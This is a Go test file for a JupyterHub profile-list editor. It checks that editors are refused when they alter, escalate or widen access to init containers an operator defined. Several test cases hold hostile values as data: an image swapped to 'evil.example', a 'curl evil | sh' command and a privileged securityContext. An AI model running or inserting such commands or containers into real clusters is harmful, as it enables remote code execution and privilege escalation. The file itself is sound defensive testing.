package edit

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/jupyterhub/hubprofiles/model"
	"github.com/jupyterhub/hubprofiles/ordered"
	"github.com/jupyterhub/hubprofiles/profilelist"
)

// An operator's list: init containers on an open choice, a privileged one
// on a choice only staff can pick.
const operatorSettings = `
- display_name: Open
  profile_options:
    image:
      display_name: Image
      choices:
        pangeo:
          display_name: Pangeo
          kubespawner_override:
            image: "quay.io/pangeo/pangeo-notebook:2025.01.01"
            init_containers:
            - {name: fix, image: "busybox:1.36.1", command: [sh, -c, "chown 1000 /home/jovyan"], securityContext: {runAsUser: 0}}
            - {name: puller, image: "quay.io/x/puller:1", securityContext: {runAsUser: 1000}}
        rocker:
          display_name: Rocker
          kubespawner_override: {image: "rocker/binder:4.4"}
      unlisted_choice:
        enabled: true
        display_name: Other
        kubespawner_override: {image: "{value}"}
- display_name: Staff
  allowed_groups: [staff]
  profile_options:
    image:
      display_name: Image
      choices:
        priv:
          display_name: Privileged
          kubespawner_override:
            image: "quay.io/pangeo/pangeo-notebook:2025.01.01"
            init_containers:
            - {name: root, image: "busybox:1.36.1", securityContext: {privileged: true}}
- display_name: Data
  kubespawner_override:
    volumes:
    - {name: data, persistentVolumeClaim: {claimName: shared}}
  profile_options:
    image:
      display_name: Image
      choices:
        plain:
          display_name: Plain
          kubespawner_override: {image: "rocker/binder:4.4"}
`

// TestSecurityCopiesCarryOnlyWhatAnOperatorSet: under the default policy an
// editor may duplicate a choice or a profile that carries init containers,
// copy them or drop some, but cannot change one on the way (in the same
// write as the duplicate or after it), nor copy one to a place more people
// can pick than could pick its source, where other volumes can be mounted,
// or into a free-text field, where KubeSpawner fills {value} in its strings.
func TestSecurityCopiesCarryOnlyWhatAnOperatorSet(t *testing.T) {
	ctx := context.Background()
	src, err := profilelist.Parse([]byte(operatorSettings), profilelist.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	e := newEditor(t, nil)
	if _, err := e.Import(ctx, src, Change{Base: NoBase, Author: "operator", Message: "import", Operator: true}); err != nil {
		t.Fatal(err)
	}
	open := model.Place{Profile: "open", Option: "image", Choice: "pangeo"}
	choiceOf := func(c *model.Catalog, pl model.Place) *model.Choice {
		p, err := c.Profile(pl.Profile)
		if err != nil {
			t.Fatal(err)
		}
		o, err := p.Option(pl.Option)
		if err != nil {
			t.Fatal(err)
		}
		ch, err := o.Choice(pl.Choice)
		if err != nil {
			t.Fatal(err)
		}
		return ch
	}
	// setFirstInit changes one field of the first init container at pl.
	setFirstInit := func(pl model.Place, field string, v any) func(*model.Catalog) error {
		return func(c *model.Catalog) error {
			ch := choiceOf(c, pl)
			list, _ := ch.Override.Get("init_containers")
			items := ordered.Clone(list).([]any)
			items[0].(*ordered.Map).Set(field, v)
			ch.Override.Set("init_containers", items)
			return nil
		}
	}
	both := func(fs ...func(*model.Catalog) error) func(*model.Catalog) error {
		return func(c *model.Catalog) error {
			for _, f := range fs {
				if err := f(c); err != nil {
					return err
				}
			}
			return nil
		}
	}
	duplicate := func(c *model.Catalog) error {
		p, _ := c.Profile("open")
		o, _ := p.Option("image")
		return o.DuplicateChoice("pangeo", "pangeo-2", "Pangeo 2")
	}
	copyRoot := func(to model.Place) func(*model.Catalog) error {
		return func(c *model.Catalog) error {
			return c.CopySetting(to, "init_containers", model.Place{Profile: "staff", Option: "image", Choice: "priv"}, nil)
		}
	}
	addStaffChoice := func(c *model.Catalog) error {
		p, _ := c.Profile("staff")
		o, _ := p.Option("image")
		return o.DuplicateChoice("priv", "priv-2", "")
	}
	for _, tc := range []struct {
		name    string
		apply   func(*model.Catalog) error
		refused bool
	}{
		{"duplicate a choice with init containers", duplicate, false},
		{"change an init container's image in the copy", setFirstInit(model.Place{Profile: "open", Option: "image", Choice: "pangeo-2"}, "image", "evil.example/busybox:1"), true},
		{"duplicate and change the command in one write", both(func(c *model.Catalog) error {
			p, _ := c.Profile("open")
			o, _ := p.Option("image")
			return o.DuplicateChoice("pangeo", "pangeo-3", "")
		}, setFirstInit(model.Place{Profile: "open", Option: "image", Choice: "pangeo-3"}, "command", []any{"sh", "-c", "curl evil | sh"})), true},
		{"change an init container of the original", setFirstInit(open, "securityContext", ordered.MapOf("privileged", true)), true},
		{"copy the staff-only privileged init container to an open choice", copyRoot(model.Place{Profile: "open", Option: "image", Choice: "rocker"}), true},
		{"copy one init container to another open choice", func(c *model.Catalog) error {
			return c.CopySetting(model.Place{Profile: "open", Option: "image", Choice: "rocker"}, "init_containers", open, []string{"puller"})
		}, false},
		{"copy init containers where other volumes can be mounted", func(c *model.Catalog) error {
			return c.CopySetting(model.Place{Profile: "data", Option: "image", Choice: "plain"}, "init_containers", open, nil)
		}, true},
		{"copy init containers to a free-text field (its strings are templates)", func(c *model.Catalog) error {
			return c.CopySetting(model.Place{Profile: "open", Option: "image"}, "init_containers", open, nil)
		}, true},
		{"drop one init container", func(c *model.Catalog) error { return c.RemoveSetting(open, "init_containers", "fix") }, false},
		{"a staff choice with the privileged init container", addStaffChoice, false},
		{"open the staff profile to everyone", func(c *model.Catalog) error {
			p, _ := c.Profile("staff")
			p.AllowedGroups = nil
			return nil
		}, true},
		{"duplicate the staff profile without its allowed_groups", func(c *model.Catalog) error {
			if err := c.DuplicateProfile("staff", "staff-2", "Staff 2"); err != nil {
				return err
			}
			p, _ := c.Profile("staff-2")
			p.AllowedGroups = []string{"staff", "students"}
			return nil
		}, true},
	} {
		res, err := e.Commit(ctx, Change{Base: NoBase, Author: "editor", Message: tc.name, Apply: tc.apply})
		refusal, isRefusal := model.FindingsOf(err)
		switch {
		case tc.refused && !isRefusal:
			t.Errorf("%s: err %v, want a refusal", tc.name, err)
		case tc.refused && !strings.Contains(fmt.Sprint(refusal), "init_containers"):
			t.Errorf("%s: refused for %v, want init_containers named", tc.name, refusal)
		case !tc.refused && err != nil:
			t.Errorf("%s: %v, want it accepted", tc.name, err)
		case !tc.refused && len(res.Errors) > 0:
			t.Errorf("%s: errors %v", tc.name, res.Errors)
		}
	}
	head, err := e.Head(ctx)
	if err != nil {
		t.Fatal(err)
	}
	rocker, _ := choiceOf(head.Catalog, model.Place{Profile: "open", Option: "image", Choice: "rocker"}).Override.Get("init_containers")
	if items, _ := rocker.([]any); len(items) != 1 || model.ItemName(items[0]) != "puller" {
		t.Errorf("rocker's init containers are %v, want the copied puller only", rocker)
	}
}
